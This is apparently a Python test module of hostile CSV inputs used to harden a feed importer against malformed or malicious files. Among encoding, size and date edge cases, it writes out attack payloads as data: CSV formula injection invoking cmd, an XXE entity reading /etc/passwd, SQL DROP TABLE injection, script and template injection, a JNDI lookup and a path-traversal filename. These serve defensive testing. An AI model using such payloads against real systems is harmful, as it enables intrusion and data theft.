"""What would somebody put into a CSV file to bring us down?"""

import gzip
from functools import partial

from holdfast.feeds.terms import ProblemCode as P
from tests.feeds import hostile_workbooks as books
from tests.feeds.hostile import HOSPITAL, Hostile, a_call, calls, record, repeated

HEAD = calls()
LONG = 120_000  # characters: almost the longest value that is read

TEXTS = [
    Hostile("nothing", lambda: b"", fault=P.EMPTY_FILE),
    Hostile("only a byte order mark", lambda: b"\xef\xbb\xbf\r\n", fault=P.EMPTY_FILE),
    Hostile("only NUL", repeated(b"\0", 1_000_000), fault=P.EMPTY_FILE),
    Hostile("NUL in a value", a_call(child_name="Ama\0 Osei"), rows=1, holds=("child_name", "Ama␀ Osei")),
    Hostile("BOM", lambda: b"\xef\xbb\xbf" + calls(record()), rows=1, holds=("call_ref", "PL1")),
    Hostile("BOM twice", lambda: b"\xef\xbb\xbf" * 2 + calls(record()), rows=1, holds=("call_ref", "PL1")),
    Hostile("UTF-16", partial(calls, record(), encoding="utf-16"), rows=1, holds=("call_ref", "PL1")),
    Hostile("UTF-16 without BOM", partial(calls, record(), encoding="utf-16-be"), rows=1),
    Hostile("UTF-16 cut in a letter", lambda: calls(record(), encoding="utf-16")[:-3], rows=1),
    Hostile("UTF-32", partial(calls, record(), encoding="utf-32"), rows=1, holds=("call_ref", "PL1")),
    Hostile(
        "bad UTF-8",
        lambda: calls(record(worry="zum")).replace(b"zum", b"\xc3\x28\xf8\x88"),
        rows=1,
        holds=("call_ref", "PL1"),
    ),
    Hostile("overlong UTF-8", lambda: calls(record(worry="zum")).replace(b"zum", b"\xc0\xaf"), rows=1),
    Hostile("half a pair", a_call(worry="a\ud83d b"), rows=1),
    Hostile(
        "bad UTF-8 in every line",
        lambda: HEAD + (record().encode().replace(b"night", b"n\xff")) * 10_000,
        rows=10_000,
    ),
    Hostile(
        "50 MB in one line", repeated(b"x", 50_000_000, HEAD), fault=P.TOO_LARGE, words="larger than 20 MB"
    ),
    Hostile(
        "20 MB in one line",
        repeated(b"x", 19_990_000, HEAD),
        rows=1,
        problems=(("", P.TOO_LONG),),
    ),
    Hostile(
        "20 MB of wide letters in one line",
        lambda: HEAD + "🙂".encode() * 4_990_000,
        rows=1,
        problems=(("", P.TOO_LONG),),
    ),
    Hostile("20 MB of commas", repeated(b",", 19_990_000, HEAD), rows=1, problems=(("", P.TOO_LONG),)),
    Hostile("20 MB of commas as headings", repeated(b",", 19_990_000), fault=P.UNKNOWN_FILE),
    Hostile("20 MB of quotes", repeated(b'"', 19_990_000, HEAD), rows=1, problems=(("", P.TOO_LONG),)),
    Hostile(
        "line ends", repeated(b"\n", 19_990_000, HEAD), fault=P.TOO_LARGE, words="more than 1,000,000 lines"
    ),
    Hostile("old line ends", repeated(b"\r", 19_990_000, HEAD), fault=P.TOO_LARGE),
    Hostile("line ends of messages", repeated(b"\n", 19_990_000), HOSPITAL, fault=P.EMPTY_FILE),
    Hostile("bad UTF-8 and line ends", repeated(b"\xffa\n", 6_000_000), fault=P.TOO_LARGE),
    Hostile("small records", repeated(b"a\r\n", 100_001, HEAD), fault=P.TOO_LARGE, words="100,000 records"),
    Hostile("open quotes", lambda: HEAD + (b'"' + record().encode()) * 20_001, rows=None),
    Hostile("one open quote", lambda: HEAD + b'PL1,"' + record().encode() * 20_000, rows=None),
    Hostile("quotes and line ends", repeated(b'"\r\n', 300_000, HEAD), fault=P.TOO_LARGE),
    Hostile(
        "10,000 headings",
        lambda: ",".join(f"c{n}" for n in range(10_000)).encode() + b"\r\n",
        fault=P.TOO_LARGE,
        words="10,000 headings",
    ),
    Hostile(
        "10,000 values",
        lambda: HEAD + b"x," * 10_000 + b"\r\n",
        rows=1,
        problems=(("", P.WRONG_COUNT),),
        words="10,001 values under",
    ),
    Hostile(
        "a heading twice",
        lambda: b"call_ref," + calls(record()),
        fault=P.UNREADABLE_FILE,
        words="more than once",
    ),
    Hostile("a value of 131,073 letters", a_call(worry="x" * 131_073), rows=1, problems=(("", P.TOO_LONG),)),
    Hostile(
        "formula-leading cells",
        a_call(child_name="=cmd|' /C calc'!A0", worry="@SUM(1+1)", school="+1", caller_name="-1"),
        rows=1,
        holds=("child_name", "=cmd|' /C calc'!A0"),
    ),
    Hostile("a tab before a formula", a_call(worry="\t=1+1"), rows=1, holds=("worry", "=1+1")),
    Hostile(
        "control characters", a_call(worry="a\x07b\x1b[31mc\x7f\x9b"), rows=1, holds=("worry", "ab[31mc")
    ),
    Hostile(
        "turned round (RLO)", a_call(child_name="Ama \u202eiesO"), rows=1, holds=("child_name", "Ama iesO")
    ),
    Hostile(
        "isolates and marks",
        a_call(child_name="\u2066Ama\u2069 \u200fOsei"),
        rows=1,
        holds=("child_name", "Ama Osei"),
    ),
    Hostile("right to left", a_call(child_name="أمل حداد"), rows=1, holds=("child_name", "أمل حداد")),
    Hostile(
        "nobody sees it",
        a_call(child_name="A\u200bm\u00ada\ufeff Osei"),
        rows=1,
        holds=("child_name", "Ama Osei"),
    ),
    Hostile(
        "homoglyphs",
        a_call(child_name="Аmа Osei"),
        rows=1,
        problems=(("child_name", P.LOOK_ALIKE),),
        holds=("child_name", "Аmа Osei"),
        words="mixes Cyrillic and Latin letters",
    ),
    Hostile("all homoglyphs", a_call(child_name="Осеа"), rows=1, problems=(("child_name", P.LOOK_ALIKE),)),
    Hostile(
        "decorated letters", a_call(child_name="𝐀𝐦𝐚 Osei"), rows=1, problems=(("child_name", P.LOOK_ALIKE),)
    ),
    Hostile(
        "a Cyrillic name", a_call(child_name="Димитър Ганчев"), rows=1, holds=("child_name", "Димитър Ганчев")
    ),
    Hostile("a name with accents", a_call(child_name="Zoë Žigová O’Neill"), rows=1),
    Hostile("marks upon marks", a_call(child_name="A" + "\u0301" * 50_000), rows=1),
    Hostile("letters that grow", a_call(child_name="\ufdfa" * 1_000), rows=1),
    Hostile("1e308", a_call(child_age="1e308"), rows=1, problems=(("child_age", P.NOT_A_NUMBER),)),
    Hostile("NaN", a_call(child_age="NaN"), rows=1, problems=(("child_age", P.NOT_A_NUMBER),)),
    Hostile(
        "a number of 100,000 digits",
        a_call(child_age="9" * 100_000),
        rows=1,
        problems=(("child_age", P.NOT_A_NUMBER),),
    ),
    Hostile("digits of another script", a_call(child_age="١٥"), rows=1),
    Hostile("year 0", a_call(child_dob="01/01/0000"), rows=1, problems=(("child_dob", P.NOT_A_DATE),)),
    Hostile("year 1", a_call(child_dob="01/01/0001"), rows=1, problems=(("child_dob", P.NOT_A_DATE),)),
    Hostile(
        "year 9999",
        a_call(call_started_at="31/12/9999 23:59"),
        rows=1,
        problems=(("call_started_at", P.NOT_A_DATE),),
        words="year that cannot be meant",
    ),
    Hostile(
        "a year beyond years",
        a_call(child_dob="01/01/99999"),
        rows=1,
        problems=(("child_dob", P.NOT_A_DATE),),
    ),
    Hostile(
        "an offset beyond offsets",
        a_call(call_started_at="2026-03-20T10:00+99:99"),
        rows=1,
        problems=(("call_started_at", P.NOT_A_DATE),),
    ),
    Hostile(
        "a leap second",
        a_call(call_started_at="2026-03-20 23:59:60"),
        rows=1,
        problems=(("call_started_at", P.NOT_A_DATE),),
    ),
    Hostile("year 9999 in the file's name", a_call(), "parents/concerns_9999-12-31.csv", rows=1),
    Hostile("year 0 in the file's name", a_call(), "parents/concerns_0000-01-01.csv", rows=1),
    Hostile("a path that leads out", a_call(), "parents/../../../concerns_2026-03-29.csv", rows=1),
    Hostile("a web page", lambda: b"<!DOCTYPE html><html><body>Your session has ended", fault=P.HTML_PAGE),
    Hostile(
        "XML for CSV",
        lambda: b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
        fault=P.UNKNOWN_FILE,
    ),
    Hostile("gzip for CSV", lambda: gzip.compress(b"\0" * 10_000_000), fault=P.UNREADABLE_FILE),
    Hostile("PDF for CSV", lambda: b"%PDF-1.7 " + b"x" * 1_000, fault=P.UNREADABLE_FILE),
    Hostile("a workbook for CSV", lambda: books.packed(books.parts()), fault=P.RENAMED_WORKBOOK),
    Hostile("SQL", a_call(child_name="Robert'); DROP TABLE people_person;--"), rows=1),
    Hostile(
        "script", a_call(child_name="<script>alert(1)</script>", worry="{{ 7*7 }} ${jndi:ldap://x}"), rows=1
    ),
    *[
        Hostile(
            f"120,000 characters of {unit!r} as {column}", a_call(**{column: (unit * LONG)[:LONG]}), rows=1
        )
        for column in ("child_name", "worry", "address_or_area")
        for unit in ("a ", "(", '" ', ",", "; ", "aka ", "1/", "-", "'", "A. ", "Mc", "0", ":", "CW3 ", "a@")
    ],
]
